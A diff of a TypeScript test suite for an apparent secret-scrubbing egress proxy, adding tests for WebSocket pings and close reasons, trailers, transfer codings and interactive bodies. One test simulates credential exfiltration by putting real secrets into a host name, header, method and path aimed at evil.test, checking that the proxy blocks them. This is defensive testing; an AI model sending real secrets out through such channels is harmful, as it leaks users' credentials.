@@ -113,26 +113,42 @@ const forms = (value: string): ReadonlyArray<string> => [value, Buffer.from(valu
 
 const leaks = (text: string, value: string): boolean => forms(value).some((form) => form.length > 8 && text.includes(form))
 
-/** Opens a WebSocket to api.alpha.test through the proxy and collects the first `count` messages. */
-const webSocketMessages = (setup: Setup, count: number): Promise<ReadonlyArray<string>> =>
+/**
+ * Opens a WebSocket to api.alpha.test through the proxy: collects the first `count` messages and
+ * the pings, then asks the upstream to close, and resolves with its close reason too.
+ */
+const webSocketMessages = (setup: Setup, count: number): Promise<{ messages: ReadonlyArray<string>; pings: ReadonlyArray<string>; reason: string }> =>
   new Promise((resolve, reject) => {
     const connect = http.request({ host: '127.0.0.1', port: setup.proxy.port, method: 'CONNECT', path: 'api.alpha.test:443' })
     connect.on('error', reject)
     connect.on('connect', (_response, socket: Duplex) => {
       const messages: Array<string> = []
+      const pings: Array<string> = []
       const ws = new WebSocket('wss://api.alpha.test/ws', {
         perMessageDeflate: true,
         createConnection: () => tlsConnect({ socket: socket as never, servername: 'api.alpha.test', ca: setup.caPem })
       })
+      ws.on('ping', (data) => pings.push(data.toString()))
       ws.on('message', (data) => {
         messages.push(data.toString())
-        if (messages.length === count) {
-          ws.close(1000)
-          resolve(messages)
-        }
+        if (messages.length === count) ws.send('close-me')
       })
+      ws.on('close', (_code, reason) => resolve({ messages, pings, reason: reason.toString() }))
       ws.on('error', reject)
     })
+    connect.end()
+  })
+
+/** The status line and headers of a raw CONNECT to `authority`. */
+const rawConnect = (setup: Setup, authority: string): Promise<string> =>
+  new Promise((resolve) => {
+    const connect = http.request({ host: '127.0.0.1', port: setup.proxy.port, method: 'CONNECT', path: authority })
+    connect.on('error', () => resolve('(error)'))
+    connect.on('connect', (response, socket: Duplex) => {
+      socket.destroy()
+      resolve(`${response.statusCode ?? 0} ${response.headers['x-egress-guard-reason'] ?? ''}`)
+    })
+    connect.on('response', (response) => resolve(`${response.statusCode ?? 0} ${response.headers['x-egress-guard-reason'] ?? ''}`))
     connect.end()
   })
 
@@ -252,6 +268,49 @@ describe.each(ADAPTERS)('secrets in both directions on %s', (adapter) => {
       expect(encoded.body).not.toContain(Buffer.from(`user:${REAL.alpha}`).toString('base64').slice(8, -4))
     })
 
+    it('decodes a transfer coding the HTTP layer leaves on (gzip inside the chunks) to scrub it', async () => {
+      const answer = await send(setup, 'curl', 'https://api.alpha.test/echo/te-gzip')
+      expect(answer.status).toBe(200)
+      expect((JSON.parse(answer.body) as { headers: Record<string, string> }).headers.authorization).toBe(`Bearer ${setup.placeholders.alpha}`)
+    })
+
+    it('scrubs the status line’s reason and the trailers, and passes no informational answer on', async () => {
+      const raw = async (path: string): Promise<string> => {
+        const tunnel = await openTunnel(setup.proxy.port, setup.caPem, 'api.alpha.test', ['http/1.1'])
+        return exchange(tunnel!, [`GET ${path} HTTP/1.1\r\nHost: api.alpha.test\r\nTE: trailers\r\n\r\n`], 400)
+      }
+      for (const path of ['/echo/status', '/echo/trailer', '/echo/early']) {
+        const answer = await raw(path)
+        expect(answer).toMatch(/^HTTP\/1\.1 200 /)
+        expect(answer).not.toContain(REAL.alpha)
+      }
+    })
+
+    it('refuses a host name, a header name or a method that carries a secret, before looking the name up, and records none of it', async () => {
+      const before = setup.echo.received.length
+      expect(await rawConnect(setup, `${REAL.alpha}.evil.test:443`)).toBe('403 credential_exfiltration')
+      expect(lastDeny(setup)).toMatchObject({ provider: 'alpha', metadata: { host: '[redacted]', location: 'host' } })
+      expect((await send(setup, 'curl', 'https://evil.test/n', { [REAL.alpha]: '1' })).status).toBe(403)
+      expect(lastDeny(setup)?.metadata['location']).toBe('header')
+      expect((await send(setup, 'curl', 'https://evil.test/h', { host: setup.placeholders.alpha })).status).toBe(403)
+      // An unknown method: refused by the tripwire, or before it by an HTTP/1 parser (400).
+      expect([400, 403]).toContain((await curl(setup.proxy.url, setup.bundle, 'https://evil.test/m', ['-X', REAL.beta])).status)
+      expect((await send(setup, 'curl', `https://evil.test/a/${setup.placeholders.alpha}/b`)).status).toBe(403)
+      expect(lastDeny(setup)?.request).toMatchObject({ path: '/[redacted]' })
+      expect(setup.echo.received.length).toBe(before)
+      const records = JSON.stringify(setup.records)
+      for (const secret of [REAL.alpha, REAL.beta, setup.placeholders.alpha, setup.placeholders.beta]) expect(records).not.toContain(secret)
+    })
+
+    it('never holds up an interactive body: the upstream answers its first line before the body ends', async () => {
+      const tunnel = await openTunnel(setup.proxy.port, setup.caPem, 'api.alpha.test', ['http/1.1'])
+      const line = '{"line": "hi"}\n'
+      const head = `POST /echo/interactive HTTP/1.1\r\nHost: api.alpha.test\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`
+      const answer = await exchange(tunnel!, [`${head}${line.length.toString(16)}\r\n${line}\r\n`], 800)
+      expect(answer).toMatch(/^HTTP\/1\.1 200 /)
+      expect(answer).toContain('got {"line": "hi"}')
+    })
+
     it('refuses a response in a coding it cannot read, and asks only for codings it can', async () => {
       const answer = await send(setup, 'curl', 'https://api.alpha.test/echo/zstd', { 'accept-encoding': 'zstd, br' })
       expect(answer.status).toBe(502)
@@ -259,9 +318,11 @@ describe.each(ADAPTERS)('secrets in both directions on %s', (adapter) => {
       expect(setup.echo.received.at(-1)?.headers['accept-encoding']).toBe('br')
     })
 
-    it('scrubs WebSocket text frames from the upstream, whole and fragmented', async () => {
-      const messages = await webSocketMessages(setup, 2)
-      expect(messages).toEqual([`whole ${setup.placeholders.alpha}`, `split ${setup.placeholders.alpha} end`])
+    it('scrubs WebSocket messages from the upstream, text whole and fragmented and binary, pings, and its close reason', async () => {
+      const { messages, pings, reason } = await webSocketMessages(setup, 3)
+      expect(messages).toEqual([`whole ${setup.placeholders.alpha}`, `split ${setup.placeholders.alpha} end`, `binary ${setup.placeholders.alpha}`])
+      expect(pings).toEqual([`ping ${setup.placeholders.alpha}`])
+      expect(reason).toBe(`bye ${setup.placeholders.alpha}`)
       // Frames reach the scrubber uncompressed: the upgrade goes without extensions (http-mitm-proxy's
       // own WebSocket client decompresses the messages it hands over, and may ask for them).
       if (adapter !== 'http-mitm-proxy') expect(setup.echo.received.at(-1)?.headers['sec-websocket-extensions']).toBeUndefined()
